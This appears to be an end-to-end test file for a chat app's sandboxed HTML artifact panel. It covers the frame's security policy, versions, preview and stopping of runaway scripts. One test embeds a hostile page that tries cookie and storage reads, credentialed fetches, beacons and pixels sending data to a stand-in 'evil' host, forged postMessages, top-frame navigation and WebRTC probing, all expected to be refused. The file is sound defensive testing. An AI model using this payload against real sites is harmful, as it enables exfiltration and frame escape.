import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Frame, Locator, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { accessibilityProblems, useBrowser } from '../support/browser.ts'
import { type ProviderServer, type Script, startProviderServer } from '../support/provider-server/index.ts'
import { type Person, useTestApp } from '../support/test-app.ts'
import { conversationSaying } from '../support/written-answer.ts'

const server = useTestApp({ env: { EGRESS_ALLOW: '127.0.0.1' } })
const browser = useBrowser()
let provider: ProviderServer

/** What anything that gets out would reach. */
const reached: string[] = []
const elsewhere = createServer((request, response) => {
  reached.push(`${request.method} ${request.url}`)
  response.setHeader('access-control-allow-origin', '*')
  response.end('x')
})
let evil = ''
beforeAll(async () => {
  provider = await startProviderServer()
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
  evil = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`
})
afterAll(async () => {
  await provider.close()
  elsewhere.close()
})

const fence = (info: string, text: string) => `\`\`\`${info}\n${text}\n\`\`\``
const asking = (text: string, script: Script): string => `${text} [[${JSON.stringify(script)}]]`
const button = (scope: Page | Locator, name: string): Locator => scope.getByRole('button', { name, exact: true })
const card = (page: Page, name: string): Locator => page.getByRole('button', { name: new RegExp(`^${name} .*Open in panel$`) })
const panelOf = (page: Page): Locator => page.getByRole('complementary', { name: /^Artifact / })
const look = async (page: Page, name: string) => {
  if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/${name}.png` })
}
const paragraphs = (count: number, text = 'A line of it.') =>
  Array.from({ length: count }, (_, at) => `<p>${at + 1}. ${text}</p>`).join('\n')
const clock = (colour: string) =>
  `<!doctype html>\n<html>\n<head><title>The clock</title><style>body{background:${colour}}</style></head>\n<body>\n<h1 id="at">…</h1>\n<script>document.getElementById('at').textContent = 'Runs in ${colour}'</script>\n${paragraphs(30)}\n</body>\n</html>`

/** The frame in which the artifact runs: within the one that holds it. */
async function running(page: Page): Promise<Frame> {
  const find = () => page.frames().find((frame) => frame.parentFrame()?.url().endsWith('/frames/artifact.html'))
  await expect.poll(() => find() !== undefined).toBe(true)
  return find()!
}

/** Somebody whose conversations are answered by the local provider. */
async function someone(name: string): Promise<Person> {
  const [person] = await server.current.people(name)
  const { workspaceId } = person
  const baseUrl = provider.baseUrl('compatible')
  await person.get('connections.create', { workspaceId, provider: 'openai-compatible', name: 'Local', apiKey: 'sk-local', baseUrl })
  const { models } = await person.get('models.list', { workspaceId })
  await person.get('people.updateSettings', { defaultModelId: models.find((one) => one.provider === 'openai-compatible')!.id })
  return person
}

/** Everything that a page could try, told afterwards in its own words. */
const hostile = () => `<!doctype html>
<title>Hostile</title>
<base href="${evil}/base/">
<link rel="stylesheet" href="${evil}/style.css">
<link rel="preload" as="script" href="${evil}/preload.js">
<link rel="prefetch" href="${evil}/prefetch">
<img src="${evil}/image.png"><video src="${evil}/video.mp4"></video><iframe src="${evil}/frame"></iframe><iframe src="/"></iframe>
<object data="${evil}/object"></object><embed src="${evil}/embed">
<script src="${evil}/script.js"></script><script src="/theme.js"></script>
<form id="form" action="${evil}/form" method="post" target="_top"><input name="a" value="b"></form>
<a id="top" href="${evil}/top" target="_top">x</a><a id="blank" href="${evil}/blank" target="_blank">x</a>
<script>
window.told = {}
const tell = async (name, work) => { try { window.told[name] = String(await work()) } catch (error) { window.told[name] = 'refused ' + error.name } }
;(async () => {
  await tell('parent', () => parent.document.title)
  await tell('page', () => parent.parent.document.title)
  await tell('top', () => top.document.cookie)
  await tell('cookie', () => document.cookie)
  await tell('local', () => localStorage.length)
  await tell('session', () => sessionStorage.length)
  await tell('indexed', () => indexedDB.open('x'))
  await tell('caches', () => caches.keys())
  await tell('origin', () => self.origin)
  await tell('fetch app', () => fetch('${server.current.url}/api/people/me', { credentials: 'include' }))
  await tell('fetch', () => fetch('${evil}/fetch'))
  await tell('xhr', () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = () => fail(new TypeError()); x.open('GET', '${evil}/xhr'); x.send() }))
  await tell('socket', () => new Promise((done, fail) => { const s = new WebSocket('${evil.replace('http', 'ws')}/socket'); s.onopen = done; s.onerror = () => fail(new TypeError()) }))
  await tell('import', () => import('${evil}/module.js'))
  await tell('worker', () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = done; w.onerror = () => fail(new TypeError()) }))
  await tell('eval', () => eval('1'))
  await tell('open', () => { if (!window.open('${evil}/open')) throw new TypeError() })
  await tell('form', () => document.getElementById('form').submit())
  await tell('link top', () => document.getElementById('top').click())
  await tell('link blank', () => document.getElementById('blank').click())
  await tell('top location', () => { top.location = '${evil}/toplocation' })
  await tell('parent location', () => { parent.location = '${evil}/parentlocation' })
  navigator.sendBeacon?.('${evil}/beacon', 'x')
  new Image().src = '${evil}/pixel?' + encodeURIComponent(document.referrer)
  for (const target of [parent, top]) for (const message of [{ type: 'ready' }, { type: 'show', html: '<p>forged', title: 'forged' }, { id: 1, svg: '<svg/>', width: 1, height: 1, title: '' }, 'diagrams-ready', { type: 'here' }])
    target.postMessage(message, '*')
  await tell('rtc', async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: '${evil.replace('http://', 'stun:')}' }] })
    peer.createDataChannel('x')
    const found = []
    peer.onicecandidate = ({ candidate }) => candidate && found.push(candidate.candidate)
    await peer.setLocalDescription()
    await new Promise((done) => setTimeout(done, 1500))
    if (found.length === 0) throw new TypeError()
    return found.length + ' candidates'
  })
  window.isDone = true
})()
</script>`

test('what a hostile page tries behind the glass comes to nothing', async () => {
  const [ada] = await server.current.people('ada')
  const id = await conversationSaying(server.current, ada, fence('html', `${hostile()}\n${paragraphs(30)}`))
  const page = await browser.open(server.current, ada, `/c/${id}`)
  const asked: string[] = []
  const opened: string[] = []
  await card(page, 'Hostile').waitFor()
  page.on('response', (response) => response.frame() !== page.mainFrame() && asked.push(new URL(response.url()).pathname))
  page.context().on('page', (one) => opened.push(one.url()))
  page.on('dialog', (dialog) => opened.push(dialog.message()))
  await card(page, 'Hostile').click()
  const frame = await running(page)
  await expect.poll(() => frame.evaluate(() => 'isDone' in window), { timeout: 20_000 }).toBe(true)
  const told = await frame.evaluate(() => (window as unknown as { told: Record<string, string> }).told)
  const { origin, form, rtc, 'link top': linkTop, 'link blank': linkBlank, ...rest } = told
  expect(origin).toBe('null')
  expect([form, linkTop, linkBlank]).toEqual(['undefined', 'undefined', 'undefined'])
  expect(Object.entries(rest).filter(([, outcome]) => !outcome.startsWith('refused'))).toEqual([])
  expect(rtc).toMatch(/^refused/)

  // It may go elsewhere by itself only: there is nowhere to go.
  await frame.evaluate((to) => void (location.href = to), `${evil}/self`).catch(() => undefined)
  await page.getByText('It asked for something from elsewhere.').waitFor()
  expect(page.url()).toContain(`/c/${id}`)
  expect(opened).toEqual([])
  expect(reached).toEqual([])
  expect(asked).toEqual(['/frames/artifact.html'])
  expect(await page.evaluate(() => document.title)).not.toContain('forged')
  expect(await page.locator('text=forged').count()).toBe(0)
  expect(await page.evaluate(() => document.cookie)).not.toContain('hostile')

  await button(panelOf(page), 'Stop').click()
  await panelOf(page).getByText('It does not run.').waitFor()
  expect(page.frames().some((one) => one.url().includes('/frames/artifact.html'))).toBe(false)
})

test('the document that holds artifacts allows nothing by itself, opened by whomever', async () => {
  const response = await fetch(`${server.current.url}/frames/artifact.html`)
  const policy = response.headers.get('content-security-policy')!.split('; ')
  expect(policy).toEqual(
    expect.arrayContaining([
      "default-src 'none'",
      "form-action 'none'",
      "base-uri 'none'",
      "frame-ancestors 'self'",
      'sandbox allow-scripts',
    ]),
  )
  expect(policy.join('; ')).not.toMatch(/allow-same-origin|allow-top|allow-popups|allow-forms|https?:|\*/)
})

test.each([
  [1440, 'light'],
  [390, 'dark'],
] as const)('artifacts at %i px, %s: versions, source and preview, full width, back to the message', async (width, colorScheme) => {
  const [ada] = await server.current.people('ada')
  const markdown = [
    'Here it is.',
    fence('html', clock('beige')),
    'And a plan, a picture, code and a diagram:',
    fence('markdown', `# The plan\n\n${'- a step of it\n'.repeat(30)}`),
    fence(
      'svg title="A circle"',
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><circle cx="50" cy="50" r="40" fill="teal"/></svg>',
    ),
    fence('js src/clock.js', 'export const now = () => Date.now()'),
    fence('mermaid', 'flowchart LR\n  A --> B'),
    'Better now:',
    fence('html', clock('lavender')),
  ].join('\n\n')
  const id = await conversationSaying(server.current, ada, markdown)
  const page = await browser.open(server.current, ada, `/c/${id}`, { width, colorScheme })
  const panel = panelOf(page)
  const cards = card(page, 'The clock')
  await expect.poll(() => cards.count()).toBe(2)
  await cards.first().scrollIntoViewIfNeeded()
  await look(page, `artifact-cards-${width}`)
  expect(await accessibilityProblems(page)).toEqual([])

  await cards.first().click()
  await panel.getByText('Version 1 of 2').waitFor()
  await (await running(page)).getByText('Runs in beige').waitFor()
  await look(page, `artifact-preview-${width}`)
  expect(await accessibilityProblems(page)).toEqual([])
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true)
  await button(panel, 'Newer version').click()
  await panel.getByText('Version 2 of 2').waitFor()
  await expect.poll(async () => (await running(page)).evaluate(() => document.body.textContent)).toContain('Runs in lavender')
  await button(panel, 'Source').click()
  await panel.getByRole('region', { name: 'Code, html' }).getByText('The clock').waitFor()
  expect(await accessibilityProblems(page)).toEqual([])
  await look(page, `artifact-source-${width}`)

  const [saved] = await Promise.all([page.waitForEvent('download'), button(panel, 'Download').click()])
  expect(saved.suggestedFilename()).toBe('The clock.html')

  // A reload keeps it, and runs nothing that nobody asked for.
  await page.reload()
  await panel.getByText('It does not run.').waitFor()
  await look(page, `artifact-stopped-${width}`)
  await panel.getByRole('button', { name: 'Run', exact: true }).last().click()
  await (await running(page)).getByText('Runs in lavender').waitFor()
  if (width > 500) {
    await button(panel, 'Full width').click()
    await expect.poll(async () => (await panel.boundingBox())!.width).toBe(width)
    await page.keyboard.press('Escape')
    await expect.poll(async () => (await panel.boundingBox())!.width).toBeLessThan(width)
  }
  await button(panel, 'Show its message').click()
  await expect.poll(() => page.evaluate(() => document.activeElement?.getAttribute('data-message'))).toBe('1')
  if (width < 500) await panel.waitFor({ state: 'detached' })
  else {
    await button(panel, 'Close').click()
    await panel.waitFor({ state: 'detached' })
  }

  await card(page, 'The plan').click()
  await panel.getByRole('heading', { name: 'The plan' }).nth(1).waitFor()
  await look(page, `artifact-document-${width}`)
  await page.keyboard.press('Escape')
  await panel.waitFor({ state: 'detached' })
  await expect.poll(() => page.evaluate(() => document.activeElement?.textContent)).toContain('The plan')

  await button(page, 'Open in panel').first().click()
  await (await running(page)).locator('circle').waitFor()
  await page.goBack()
  await panel.waitFor({ state: 'detached' })
})

test('what is being written grows in the open panel without anything else being touched, and runs when it is whole', async () => {
  const person = await someone('stina')
  const page = await browser.open(server.current, person)
  const field = page.getByRole('textbox', { name: 'Your message' })
  await field.fill(asking('Make it', { text: fence('html', clock('beige')) }))
  await page.keyboard.press('Enter')
  await card(page, 'The clock').click()
  const panel = panelOf(page)
  await (await running(page)).getByText('Runs in beige').waitFor()

  await field.fill(asking('Better', { text: fence('html', clock('lavender')), delayMs: 60 }))
  await page.keyboard.press('Enter')
  await panel.getByText('Version 2 of 2').waitFor()
  await panel.getByText('It is being written.').waitFor()
  const source = panel.locator('pre')
  await source.evaluate((element) => element.setAttribute('data-same', 'yes'))
  const length = (await source.innerText()).length
  await expect.poll(async () => (await source.innerText()).length).toBeGreaterThan(length + 40)
  expect(await source.getAttribute('data-same')).toBe('yes')
  await look(page, 'artifact-writing')
  await expect
    .poll(async () => (await running(page)).evaluate(() => document.body.textContent).catch(() => ''), { timeout: 40_000 })
    .toContain('Runs in lavender')
  await button(panel, 'Older version').click()
  await expect.poll(async () => (await running(page)).evaluate(() => document.body.textContent).catch(() => '')).toContain('Runs in beige')
})

test('one that never ends is stopped', async () => {
  const [ada] = await server.current.people('ada')
  const id = await conversationSaying(server.current, ada, fence('html', `<title>Loop</title><script>for(;;);</script>${paragraphs(30)}`))
  const page = await browser.open(server.current, ada, `/c/${id}`)
  await card(page, 'Loop').click()
  const panel = panelOf(page)
  await panel.getByText('It does not answer any more.').waitFor({ timeout: 20_000 })
  await button(panel, 'Stop').click()
  await panel.getByText('It does not run.').waitFor()
  await page.getByRole('textbox', { name: 'Your message' }).fill('still here')
})
